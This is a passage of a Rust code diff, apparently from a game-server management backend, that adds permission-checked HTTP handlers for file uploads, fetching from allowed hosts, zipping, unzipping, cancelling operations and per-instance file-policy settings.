+            kind: ErrorKind::PermissionDenied,
+            source: eyre!("File extension is protected"),
+        });
+    }
+    check_world_not_open(requester, open_worlds, [path], force, "writing to")?;
+    if path.exists() {
+        if let Some(world) = locked_worlds.iter().find(|world| path.starts_with(world)) {
+            return Err(instance_locked(&format!(
+                "overwriting files of {}",
+                world.file_name().unwrap_or_default().to_string_lossy()
+            )));
+        }
+    }
+    check_in_writable_paths(requester, root, [path]).await
+}
+
+struct UploadSession {
+    instance_uuid: InstanceUuid,
+    user_id: UserId,
+    cancel: CancellationToken,
+}
+
+/// Background fs operations in progress (uploads, checksums, copies, moves, zips, unzips and
+/// remote backups), keyed by the event id of their progression so clients can cancel them
+#[derive(Clone, Default)]
+pub struct UploadSessions {
+    sessions: Arc<std::sync::Mutex<HashMap<Snowflake, UploadSession>>>,
+}
+
+impl UploadSessions {
+    pub(super) fn register(
+        &self,
+        event_id: Snowflake,
+        instance_uuid: InstanceUuid,
+        user_id: UserId,
+    ) -> UploadSessionGuard {
+        let cancel = CancellationToken::new();
+        self.sessions.lock().unwrap().insert(
+            event_id,
+            UploadSession {
+                instance_uuid,
+                user_id,
+                cancel: cancel.clone(),
+            },
+        );
+        UploadSessionGuard {
+            sessions: self.clone(),
+            event_id,
+            cancel,
+        }
+    }
+
+    /// Only the user who started the operation can cancel it
+    fn cancel(
+        &self,
+        event_id: Snowflake,
+        instance_uuid: &InstanceUuid,
+        user_id: &UserId,
+    ) -> Result<(), Error> {
+        let sessions = self.sessions.lock().unwrap();
+        let session = sessions
+            .get(&event_id)
+            .filter(|session| &session.instance_uuid == instance_uuid)
+            .ok_or_else(|| Error {
+                kind: ErrorKind::NotFound,
+                source: eyre!("Operation not found"),
+            })?;
+        if &session.user_id != user_id {
+            return Err(Error {
+                kind: ErrorKind::PermissionDenied,
+                source: eyre!("Operation was started by another user"),
+            });
+        }
+        session.cancel.cancel();
+        Ok(())
+    }
+
+    /// Cancel every operation on the instance whoever started it, returns how many there were
+    fn cancel_all(&self, instance_uuid: &InstanceUuid) -> usize {
+        self.sessions
+            .lock()
+            .unwrap()
+            .values()
+            .filter(|session| &session.instance_uuid == instance_uuid)
+            .map(|session| session.cancel.cancel())
+            .count()
+    }
+}
+
+/// Unregisters the operation when the handler finishes or the request is dropped
+pub(super) struct UploadSessionGuard {
+    sessions: UploadSessions,
+    event_id: Snowflake,
+    pub(super) cancel: CancellationToken,
+}
+
+impl Drop for UploadSessionGuard {
+    fn drop(&mut self) {
+        self.sessions
+            .sessions
+            .lock()
+            .unwrap()
+            .remove(&self.event_id);
+    }
+}
+
+/// End of a background fs operation, attributed to whoever started it like its start event
+fn fs_operation_end_event(
+    event_id: ProgressionEventID,
+    uuid: &InstanceUuid,
+    caused_by: &CausedBy,
+    success: bool,
+    message: String,
+) -> Event {
+    Event::new_progression_event_end(
+        event_id,
+        success,
+        Some(&message),
+        Some(ProgressionEndValue::FSOperationCompleted {
+            instance_uuid: uuid.clone(),
+            success,
+            message,
+        }),
+    )
+    .with_caused_by(caused_by.clone())
+}
+
+/// Wait for a slot among the instance's heavy fs operations, the progression shows as queued
+/// meanwhile. The slot is freed when the returned permit is dropped, the wait ends early if the
+/// operation is cancelled
+async fn acquire_fs_op_slot(
+    fs_op_limiter: &FsOpLimiter,
+    event_broadcaster: &EventBroadcaster,
+    event_id: &ProgressionEventID,
+    uuid: &InstanceUuid,
+    caused_by: &CausedBy,
+    cancel: &CancellationToken,
+) -> Result<Option<OwnedSemaphorePermit>, Error> {
+    let acquire = fs_op_limiter.acquire(uuid, || {
+        event_broadcaster.send(
+            Event::new_progression_event_update(
+                event_id,
+                "Queued, waiting for other file operations on this instance",
+                0.0,
+            )
+            .with_caused_by(caused_by.clone()),
+        );
+    });
+    tokio::select! {
+        _ = cancel.cancelled() => Err(operation_cancelled()),
+        permit = acquire => Ok(permit),
+    }
+}
+
+fn upload_failed_event(
+    event_id: ProgressionEventID,
+    uuid: &InstanceUuid,
+    caused_by: &CausedBy,
+    message: String,
+) -> Event {
+    fs_operation_end_event(event_id, uuid, caused_by, false, message)
+}
+
+fn upload_cancelled() -> Error {
+    Error {
+        kind: ErrorKind::Conflict,
+        source: eyre!("Upload cancelled"),
+    }
+}
+
+/// Write an uploaded file chunk by chunk, `on_chunk` is called with the size of each chunk.
+///
+/// The partial file is removed if the stream fails, the write fails or the upload is cancelled
+pub(super) async fn receive_upload_file<E>(
+    chunks: impl Stream<Item = Result<Bytes, E>>,
+    path: &std::path::Path,
+    cancel: &CancellationToken,
+    mut on_chunk: impl FnMut(u64),
+) -> Result<(), Error>
+where
+    E: std::error::Error + Send + Sync + 'static,
+{
+    let mut file = crate::util::fs::create(path).await?;
+    tokio::pin!(chunks);
+    let result: Result<(), Error> = async {
+        loop {
+            let chunk = tokio::select! {
+                _ = cancel.cancelled() => return Err(upload_cancelled()),
+                chunk = chunks.next() => chunk,
+            };
+            let Some(chunk) = chunk.transpose().context("Failed to read chunk")? else {
+                return Ok(());
+            };
+            on_chunk(chunk.len() as u64);
+            file.write_all(&chunk)
+                .await
+                .context("Failed to write chunk")?;
+        }
+    }
+    .await;
+    if result.is_err() {
+        drop(file);
+        tokio::fs::remove_file(path).await.ok();
+    }
+    result
+}
+
+async fn upload_instance_file(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
+    Query(world_query): Query<OpenWorldQuery>,
+    headers: HeaderMap,
+    AuthBearer(token): AuthBearer,
+    mut multipart: Multipart,
+) -> Result<Json<()>, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::WriteInstanceFile(uuid.clone()))?;
+    let caused_by = CausedBy::User {
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
+    };
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let root = instance.path().await;
+    let open_worlds = open_world_dirs(instance.state().await, &root).await;
+    let locked_worlds = if instance.locked().await {
+        world_dirs(&root).await
+    } else {
+        Vec::new()
+    };
+    drop(instance);
+    let path_to_dir = scoped_join_win_safe(&root, relative_path)?;
+    check_dir_not_in_open_world(&requester, &open_worlds, &path_to_dir, world_query.force)?;
+    check_in_writable_paths(&requester, &root, [path_to_dir.as_path()]).await?;
+    check_path_length(&path_to_dir)?;
+    let on_conflict = headers
+        .get(ON_CONFLICT_HEADER)
+        .map(|v| {
+            v.to_str()
+                .context("Invalid conflict policy header")
+                .map_err(Error::from)
+                .and_then(|v| v.parse::<UploadConflictPolicy>())
+        })
+        .transpose()?
+        .unwrap_or_default();
+    let sanitize_policy = read_sanitize_policy(&root).await;
+    let protected = read_protected_paths(&root).await;
+    let case_insensitive = headers
+        .get(CASE_INSENSITIVE_HEADER)
+        .and_then(|v| v.to_str().ok())
+        .map_or(false, |v| v.trim().eq_ignore_ascii_case("true"));
+    crate::util::fs::create_dir_all(&path_to_dir).await?;
+
+    let total = headers
+        .get(CONTENT_LENGTH)
+        .and_then(|v| v.to_str().ok())
+        .and_then(|v| v.parse::<f64>().ok());
+    let (progression_start_event, event_id) =
+        Event::new_progression_event_start("Uploading files", total, None, caused_by.clone());
+    let session =
+        state
+            .upload_sessions
+            .register(event_id.inner(), uuid.clone(), requester.uid.clone());
+    state.event_broadcaster.send(progression_start_event);
+    let mut timer = FsOpTimer::start(FsOpKind::Upload, Some(uuid.clone()));
+    let mut throttle = ProgressThrottle::new(total.map(|total| total as u64));
+    let mut elapsed_bytes = 0_u64;
+    loop {
+        let next_field = tokio::select! {
+            _ = session.cancel.cancelled() => {
+                let e = upload_cancelled();
+                state
+                    .event_broadcaster
+                    .send(upload_failed_event(event_id, &uuid, &caused_by, "Upload cancelled".to_string()));
+                return Err(e);
+            }
+            next_field = multipart.next_field() => next_field,
+        };
+        let Ok(Some(field)) = next_field else {
+            break;
+        };
+        let name = field.file_name().ok_or_else(|| Error {
+            kind: ErrorKind::BadRequest,
+            source: eyre!("Missing file name"),
+        })?;
+        let name = match sanitize_upload_name(name, sanitize_policy) {
+            Ok(name) => name,
+            Err(e) => {
+                state.event_broadcaster.send(upload_failed_event(
+                    event_id,
+                    &uuid,
+                    &caused_by,
+                    format!("Failed to upload file {name}, {e}"),
+                ));
+                return Err(e);
+            }
+        };
+        let path = scoped_join_win_safe(&path_to_dir, &name)?;
+        // if the file has a protected extension, or no extension, deny
+        if is_path_protected_for(&requester, &protected, &path) {
+            state.event_broadcaster.send(upload_failed_event(
+                event_id,
+                &uuid,
+                &caused_by,
+                format!("Failed to upload file {name}, its extension is protected"),
+            ));
+            return Err(Error {
+                kind: ErrorKind::PermissionDenied,
+                source: eyre!("File extension is protected"),
+            });
+        }
+        if let Err(e) = check_world_not_open(
+            &requester,
+            &open_worlds,
+            [path.as_path()],
+            world_query.force,
+            "writing to",
+        ) {
+            state.event_broadcaster.send(upload_failed_event(
+                event_id,
+                &uuid,
+                &caused_by,
+                format!("Failed to upload file {name}, {e}"),
+            ));
+            return Err(e);
+        }
+        let destination = match upload_destination(path.clone(), on_conflict, case_insensitive) {
+            Ok(destination) if destination == path => Ok(destination),
+            Ok(destination) => check_upload_destination(
+                &requester,
+                &root,
+                &protected,
+                &open_worlds,
+                &locked_worlds,
+                world_query.force,
+                &destination,
+            )
+            .await
+            .map(|_| destination),
+            Err(e) => Err(e),
+        };
+        let path = match destination {
+            Ok(path) => path,
+            Err(e) => {
+                state.event_broadcaster.send(upload_failed_event(
+                    event_id,
+                    &uuid,
+                    &caused_by,
+                    format!("Failed to upload file {name}, {e}"),
+                ));
+                return Err(e);
+            }
+        };
+        check_path_length(&path)?;
+
+        let received = receive_upload_file(field, &path, &session.cancel, |chunk_len| {
+            elapsed_bytes += chunk_len;
+            timer.add_bytes(chunk_len);
+            if let Some(progressed) = throttle.report(elapsed_bytes) {
+                state.event_broadcaster.send(
+                    Event::new_progression_event_update(
+                        &event_id,
+                        if let Some(total) = total {
+                            format!(
+                                "Uploading {name}, {}",
+                                format_byte_download(elapsed_bytes, total as u64)
+                            )
+                        } else {
+                            format!("Uploading {name}, {} uploaded", format_byte(elapsed_bytes))
+                        },
+                        progressed as f64,
+                    )
+                    .with_caused_by(caused_by.clone()),
+                );
+            }
+        })
+        .await;
+        if let Err(e) = received {
+            state.event_broadcaster.send(upload_failed_event(
+                event_id,
+                &uuid,
+                &caused_by,
+                format!("Failed to upload file {name}, {e}"),
+            ));
+            return Err(e);
+        }
+
+        state.event_broadcaster.send(new_fs_event(
+            FSOperation::Upload,
+            FSTarget::File(path),
+            caused_by.clone(),
+        ));
+    }
+    timer.succeeded();
+    state.event_broadcaster.send(fs_operation_end_event(
+        event_id,
+        &uuid,
+        &caused_by,
+        true,
+        "File(s) uploaded".to_string(),
+    ));
+    Ok(Json(()))
+}
+
+// bounds of a server-side fetch, big enough for a modpack or a world
+const FETCH_MAX_BYTES: u64 = 4 * 1024 * 1024 * 1024;
+const FETCH_TIMEOUT: std::time::Duration = std::time::Duration::from_secs(30 * 60);
+
+#[derive(Deserialize, Debug, TS)]
+#[ts(export)]
+struct FetchInstanceFileRequest {
+    url: String,
+}
+
+/// Download a file from one of the allowed hosts into the instance, replacing the file at the
+/// path. Reports its progress and can be cancelled like an upload
+async fn fetch_instance_file(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
+    Query(world_query): Query<OpenWorldQuery>,
+    AuthBearer(token): AuthBearer,
+    Json(request): Json<FetchInstanceFileRequest>,
+) -> Result<Json<()>, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::WriteInstanceFile(uuid.clone()))?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let root = instance.path().await;
+    let open_worlds = open_world_dirs(instance.state().await, &root).await;
+    drop(instance);
+    let path = scoped_join_win_safe(&root, relative_path)?;
+    check_world_not_open(
+        &requester,
+        &open_worlds,
+        [path.as_path()],
+        world_query.force,
+        "writing to",
+    )?;
+    if path.is_dir() {
+        return Err(Error {
+            kind: ErrorKind::BadRequest,
+            source: eyre!("Path is a directory"),
+        });
+    }
+    if is_path_protected_for(&requester, &read_protected_paths(&root).await, &path) {
+        return Err(Error {
+            kind: ErrorKind::PermissionDenied,
+            source: eyre!("File extension is protected"),
+        });
+    }
+    check_in_writable_paths(&requester, &root, [path.as_path()]).await?;
+    check_path_length(&path)?;
+    let allowed_hosts = state.global_settings.lock().await.fetch_allowed_hosts();
+    let remote = open_remote_file(
+        &request.url,
+        &allowed_hosts,
+        FetchLimits {
+            max_bytes: FETCH_MAX_BYTES,
+            timeout: FETCH_TIMEOUT,
+        },
+    )
+    .await?;
+    if let Some(parent) = path.parent() {
+        crate::util::fs::create_dir_all(parent).await?;
+    }
+
+    let caused_by = CausedBy::User {
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
+    };
+    let name = path
+        .file_name()
+        .map(|name| name.to_string_lossy().to_string())
+        .unwrap_or_default();
+    let total = remote.content_length();
+    let (progression_start_event, event_id) = Event::new_progression_event_start(
+        format!("Fetching {name}"),
+        total.map(|total| total as f64),
+        None,
+        caused_by.clone(),
+    );
+    let session =
+        state
+            .upload_sessions
+            .register(event_id.inner(), uuid.clone(), requester.uid.clone());
+    state.event_broadcaster.send(progression_start_event);
+    let mut timer = FsOpTimer::start(FsOpKind::Fetch, Some(uuid.clone()));
+    let mut throttle = ProgressThrottle::new(total);
+    let mut fetched = 0_u64;
+    let saved = remote
+        .save_to(&path, &session.cancel, |chunk_len| {
+            fetched += chunk_len;
+            timer.add_bytes(chunk_len);
+            if let Some(progressed) = throttle.report(fetched) {
+                state.event_broadcaster.send(
+                    Event::new_progression_event_update(
+                        &event_id,
+                        match total {
+                            Some(total) => {
+                                format!("Fetching {name}, {}", format_byte_download(fetched, total))
+                            }
+                            None => format!("Fetching {name}, {} fetched", format_byte(fetched)),
+                        },
+                        progressed as f64,
+                    )
+                    .with_caused_by(caused_by.clone()),
+                );
+            }
+        })
+        .await;
+    if let Err(e) = saved {
+        state.event_broadcaster.send(fs_operation_end_event(
+            event_id,
+            &uuid,
+            &caused_by,
+            false,
+            format!("Failed to fetch {name}, {e}"),
+        ));
+        return Err(e);
+    }
+    timer.succeeded();
+    state.event_broadcaster.send(fs_operation_end_event(
+        event_id,
+        &uuid,
+        &caused_by,
+        true,
+        format!("Fetched {name}"),
+    ));
+    state.event_broadcaster.send(new_fs_event(
+        FSOperation::Write,
+        FSTarget::File(path),
+        caused_by,
+    ));
+    Ok(Json(()))
+}
+
+/// Stop a background fs operation started by the requester. It ends its progression as failed
+/// with a cancelled message, and cleans up what it wrote so far. Served at
+/// `PUT /instance/:uuid/fs/progression/:event_id/cancel`, the `DELETE` routes of uploads and
+/// operations are older aliases of it
+async fn cancel_progression(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path((uuid, event_id)): Path<(InstanceUuid, Snowflake)>,
+    AuthBearer(token): AuthBearer,
+) -> Result<Json<()>, Error> {
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::WriteInstanceFile(uuid.clone()))?;
+    state
+        .upload_sessions
+        .cancel(event_id, &uuid, &requester.uid)?;
+    Ok(Json(()))
+}
+
+/// Emergency stop of every background fs operation on the instance, whoever started it. Each
+/// operation ends its progression as failed once stopped, returns how many were cancelled
+async fn abort_instance_fs_operations(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path(uuid): Path<InstanceUuid>,
+    AuthBearer(token): AuthBearer,
+) -> Result<Json<usize>, Error> {
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::WriteInstanceFile(uuid.clone()))?;
+    // other users' operations are cancelled too
+    requester.try_action(&UserAction::AccessSetting(uuid.clone()))?;
+    if !state.instances.contains_key(&uuid) {
+        return Err(Error {
+            kind: ErrorKind::NotFound,
+            source: eyre!("Instance not found"),
+        });
+    }
+    Ok(Json(state.upload_sessions.cancel_all(&uuid)))
+}
+
+/// Unzip in the background, every progression event is attributed to `caused_by`
+#[allow(clippy::too_many_arguments)]
+async fn unzip_and_report(
+    event_broadcaster: EventBroadcaster,
+    fs_op_limiter: FsOpLimiter,
+    sessions: UploadSessions,
+    uuid: InstanceUuid,
+    user_id: UserId,
+    caused_by: CausedBy,
+    path_to_zip_file: PathBuf,
+    relative_path: String,
+    unzip_option: UnzipOption,
+) {
+    let total = {
+        let path_to_zip_file = path_to_zip_file.clone();
+        tokio::task::spawn_blocking(move || archive_entry_count(path_to_zip_file))
+            .await
+            .ok()
+            .flatten()
+    };
+    let (progression_event_start, event_id) = Event::new_progression_event_start(
+        format!("Unzipping {relative_path}"),
+        total.map(|total| total as f64),
+        None,
+        caused_by.clone(),
+    );
+    let session = sessions.register(event_id.inner(), uuid.clone(), user_id);
+    event_broadcaster.send(progression_event_start);
+    let _permit = match acquire_fs_op_slot(
+        &fs_op_limiter,
+        &event_broadcaster,
+        &event_id,
+        &uuid,
+        &caused_by,
+        &session.cancel,
+    )
+    .await
+    {
+        Ok(permit) => permit,
+        Err(e) => {
+            event_broadcaster.send(fs_operation_end_event(
+                event_id,
+                &uuid,
+                &caused_by,
+                false,
+                format!("Unzip {relative_path} failed: {e}"),
+            ));
+            return;
+        }
+    };
+    let mut timer = FsOpTimer::start(FsOpKind::Unzip, Some(uuid.clone()));
+    if let Ok(metadata) = tokio::fs::metadata(&path_to_zip_file).await {
+        timer.set_bytes(metadata.len());
+    }
+
+    // tar.gz archives have no entry count up front, their progress stays indeterminate
+    let on_entry = {
+        let event_broadcaster = event_broadcaster.clone();
+        let event_id = event_id.clone();
+        let caused_by = caused_by.clone();
+        let mut throttle = total.map(|total| (total, ProgressThrottle::new(Some(total))));
+        move |done: u64| {
+            if let Some((total, throttle)) = throttle.as_mut() {
+                if let Some(progressed) = throttle.report(done) {
+                    event_broadcaster.send(
+                        Event::new_progression_event_update(
+                            &event_id,
+                            format!("Extracting {done}/{total} entries"),
+                            progressed as f64,
+                        )
+                        .with_caused_by(caused_by.clone()),
+                    );
+                }
+            }
+        }
+    };
+    let (success, message) = match unzip_file_async_with_progress(
+        path_to_zip_file,
+        unzip_option,
+        on_entry,
+        session.cancel.clone(),
+    )
+    .await
+    {
+        Ok(_) => {
+            timer.succeeded();
+            (true, format!("Unzipped {relative_path}"))
+        }
+        Err(e) => (false, format!("Unzip {relative_path} failed: {e}")),
+    };
+    event_broadcaster.send(fs_operation_end_event(
+        event_id, &uuid, &caused_by, success, message,
+    ));
+}
+
+pub async fn unzip_instance_file(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
+    Query(world_query): Query<OpenWorldQuery>,
+    AuthBearer(token): AuthBearer,
+    Json(unzip_option): Json<UnzipOption>,
+) -> Result<Json<()>, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::WriteInstanceFile(uuid.clone()))?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let root = instance.path().await;
+    let open_worlds = open_world_dirs(instance.state().await, &root).await;
+    drop(instance);
+    let path_to_zip_file = scoped_join_win_safe(&root, &relative_path)?;
+
+    if let UnzipOption::ToDir(ref dir) = unzip_option {
+        if is_path_protected_for(&requester, &read_protected_paths(&root).await, dir) {
+            return Err(Error {
+                kind: ErrorKind::PermissionDenied,
+                source: eyre!("Destination is protected"),
+            });
+        }
+    }
+    let destination = match unzip_option {
+        UnzipOption::ToDir(ref dir) => dir.as_path(),
+        _ => path_to_zip_file.parent().unwrap_or(&root),
+    };
+    check_dir_not_in_open_world(&requester, &open_worlds, destination, world_query.force)?;
+    check_in_writable_paths(&requester, &root, [destination]).await?;
+    let user_id = requester.uid.clone();
+    let caused_by = CausedBy::User {
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
+    };
+    tokio::spawn(in_current_request(unzip_and_report(
+        state.event_broadcaster.clone(),
+        state.fs_op_limiter.clone(),
+        state.upload_sessions.clone(),
+        uuid,
+        user_id,
+        caused_by,
+        path_to_zip_file,
+        relative_path,
+        unzip_option,
+    )));
+
+    Ok(Json(()))
+}
+
+#[derive(Deserialize, TS)]
+#[ts(export)]
+struct ZipRequest {
+    target_relative_paths: Vec<PathBuf>,
+    destination_relative_path: PathBuf,
+}
+
+/// Zip in the background, every event is attributed to `caused_by`
+#[allow(clippy::too_many_arguments)]
+async fn zip_and_report(
+    event_broadcaster: EventBroadcaster,
+    fs_op_limiter: FsOpLimiter,
+    sessions: UploadSessions,
+    uuid: InstanceUuid,
+    user_id: UserId,
+    caused_by: CausedBy,
+    targets: Vec<PathBuf>,
+    destination: PathBuf,
+) {
+    let aggregate_name = {
+        let combined_file_name = targets
+            .iter()
+            .filter_map(|p| p.file_name().map(|name| name.to_string_lossy()))
+            .collect::<Vec<_>>()
+            .join(", ");
+        if combined_file_name.len() < 100 {
+            combined_file_name
+        } else {
+            format!("{} files", targets.len())
+        }
+    };
+    let total = {
+        let targets = targets.clone();
+        tokio::task::spawn_blocking(move || tree_size(&targets).bytes)
+            .await
+            .unwrap_or_default()
+    };
+    let (progression_start_event, event_id) = Event::new_progression_event_start(
+        format!("Zipping {aggregate_name}"),
+        Some(total as f64),
+        None,
+        caused_by.clone(),
+    );
+    let session = sessions.register(event_id.inner(), uuid.clone(), user_id);
+    event_broadcaster.send(progression_start_event);
+    let _permit = match acquire_fs_op_slot(
+        &fs_op_limiter,
+        &event_broadcaster,
+        &event_id,
+        &uuid,
+        &caused_by,
+        &session.cancel,
+    )
+    .await
+    {
+        Ok(permit) => permit,
+        Err(e) => {
+            event_broadcaster.send(fs_operation_end_event(
+                event_id,
+                &uuid,
+                &caused_by,
+                false,
+                format!("Zipping {aggregate_name} failed: {e}"),
+            ));
+            return;
+        }
+    };
+    let mut timer = FsOpTimer::start(FsOpKind::Zip, Some(uuid.clone()));
+
+    let on_progress = {
+        let event_broadcaster = event_broadcaster.clone();
+        let event_id = event_id.clone();
+        let caused_by = caused_by.clone();
+        let mut throttle = ProgressThrottle::new(Some(total));
+        move |archived: u64| {
+            if let Some(progressed) = throttle.report(archived) {
+                event_broadcaster.send(
+                    Event::new_progression_event_update(
+                        &event_id,
+                        format!("Compressing {}", format_byte_download(archived, total)),
+                        progressed as f64,
+                    )
+                    .with_caused_by(caused_by.clone()),
+                );
+            }
+        }
+    };
+    let (success, message) = match zip_files_async(
+        &targets,
+        destination.clone(),
+        false,
+        on_progress,
+        session.cancel.clone(),
+    )
+    .await
+    {
+        Ok(archive) => {
+            if let Ok(metadata) = tokio::fs::metadata(&archive).await {
+                timer.set_bytes(metadata.len());
+            }
+            timer.succeeded();
+            event_broadcaster.send(new_fs_event(
+                FSOperation::Create,
+                FSTarget::File(destination),
+                caused_by.clone(),
+            ));
+            (true, format!("Zipped {aggregate_name}"))
+        }
+        Err(e) => (false, format!("Zipping {aggregate_name} failed: {e}")),
+    };
+    event_broadcaster.send(fs_operation_end_event(
+        event_id, &uuid, &caused_by, success, message,
+    ));
+}
+
+async fn zip_instance_files(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path(uuid): Path<InstanceUuid>,
+    AuthBearer(token): AuthBearer,
+    Json(zip_request): Json<ZipRequest>,
+) -> Result<Json<()>, Error> {
+    let requester = authorize(&state, &token).await?;
+    let max_paths = state.global_settings.lock().await.max_fs_request_paths();
+    requester.try_action(&UserAction::WriteInstanceFile(uuid.clone()))?;
+    check_source_path_count(&zip_request.target_relative_paths, max_paths)?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let root = instance.path().await;
+    drop(instance);
+    let ZipRequest {
+        target_relative_paths,
+        mut destination_relative_path,
+    } = zip_request;
+
+    // apply scoped_join_win_safe to all paths, globs are expanded against the root
+    let target_relative_paths = {
+        let root = root.clone();
+        tokio::task::spawn_blocking(move || {
+            expand_source_paths(&root, &target_relative_paths, max_paths)
+        })
+        .await
+        .context("Failed to expand target paths")??
+    };
+    destination_relative_path = scoped_join_win_safe(&root, &destination_relative_path)?;
+    // the archive would be renamed next to the root, outside of the instance
+    ensure_not_instance_root(&root, &destination_relative_path, "overwrite")?;
+
+    if !requester.can_perform_action(&UserAction::ReadGlobalFile)
+        && is_path_protected(
+            &read_protected_paths(&root).await,
+            &destination_relative_path,
+        )
+    {
+        return Err(Error {
+            kind: ErrorKind::PermissionDenied,
+            source: eyre!("Destination is protected"),
+        });
+    }
+    check_in_writable_paths(&requester, &root, [destination_relative_path.as_path()]).await?;
+
+    let caused_by = CausedBy::User {
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
+    };
+    tokio::spawn(in_current_request(zip_and_report(
+        state.event_broadcaster.clone(),
+        state.fs_op_limiter.clone(),
+        state.upload_sessions.clone(),
+        uuid,
+        requester.uid,
+        caused_by,
+        target_relative_paths,
+        destination_relative_path,
+    )));
+
+    // remove root from path
+
+    Ok(Json(()))
+}
+
+async fn get_instance_fs_op_limits(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path(uuid): Path<InstanceUuid>,
+    AuthBearer(token): AuthBearer,
+) -> Result<Json<FsOpLimits>, Error> {
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::AccessSetting(uuid.clone()))?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let path = instance.path().await;
+    drop(instance);
+    Ok(Json(read_fs_op_limits(&path).await))
+}
+
+async fn set_instance_fs_op_limits(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path(uuid): Path<InstanceUuid>,
+    AuthBearer(token): AuthBearer,
+    Json(limits): Json<FsOpLimits>,
+) -> Result<Json<FsOpLimits>, Error> {
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::AccessSetting(uuid.clone()))?;
+    limits.validate()?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let path = instance.path().await;
+    drop(instance);
+    write_fs_op_limits(&path, &limits).await?;
+    state.fs_op_limiter.set_limits(uuid, limits);
+    Ok(Json(limits))
+}
+
+async fn get_instance_sanitize_policy(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path(uuid): Path<InstanceUuid>,
+    AuthBearer(token): AuthBearer,
+) -> Result<Json<SanitizePolicy>, Error> {
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::AccessSetting(uuid.clone()))?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let path = instance.path().await;
+    drop(instance);
+    Ok(Json(read_sanitize_policy(&path).await))
+}
+
+async fn set_instance_sanitize_policy(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path(uuid): Path<InstanceUuid>,
+    AuthBearer(token): AuthBearer,
+    Json(policy): Json<SanitizePolicy>,
+) -> Result<Json<SanitizePolicy>, Error> {
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::AccessSetting(uuid.clone()))?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let path = instance.path().await;
+    drop(instance);
+    write_sanitize_policy(&path, policy).await?;
+    Ok(Json(policy))
+}
+
+async fn get_instance_writable_paths(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path(uuid): Path<InstanceUuid>,
+    AuthBearer(token): AuthBearer,
+) -> Result<Json<WritablePaths>, Error> {
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::AccessSetting(uuid.clone()))?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let path = instance.path().await;
+    drop(instance);
+    Ok(Json(read_writable_paths(&path).await))
+}
+
+async fn set_instance_writable_paths(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path(uuid): Path<InstanceUuid>,
+    AuthBearer(token): AuthBearer,
+    Json(writable_paths): Json<WritablePaths>,
+) -> Result<Json<WritablePaths>, Error> {
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::AccessSetting(uuid.clone()))?;
+    // the users it restricts can't lift it
+    requester.try_action(&UserAction::WriteGlobalFile)?;
+    writable_paths.validate()?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let path = instance.path().await;
+    drop(instance);
+    write_writable_paths(&path, &writable_paths).await?;
+    Ok(Json(writable_paths))
+}
+
+async fn get_instance_protected_paths(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path(uuid): Path<InstanceUuid>,
+    AuthBearer(token): AuthBearer,
+) -> Result<Json<ProtectedPaths>, Error> {
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::AccessSetting(uuid.clone()))?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
